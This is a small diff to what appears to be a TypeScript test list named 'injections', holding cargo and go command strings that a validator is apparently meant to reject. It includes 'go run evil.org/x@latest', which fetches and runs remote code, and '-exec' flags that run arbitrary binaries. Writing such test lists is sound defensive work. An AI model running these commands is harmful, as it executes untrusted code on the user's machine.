@@ -358,7 +358,7 @@ const injections: Readonly<Record<string, readonly (string | readonly string[])[
     "cargo test -- --logfile=x",
     "cargo fmt -- --config-path=x",
     "cargo doc --open",
-    "go run ./x",
+    "go run x",
     "go run evil.org/x@latest",
     "go test -exec ./x ./...",
     "go test -exec=./x ./...",
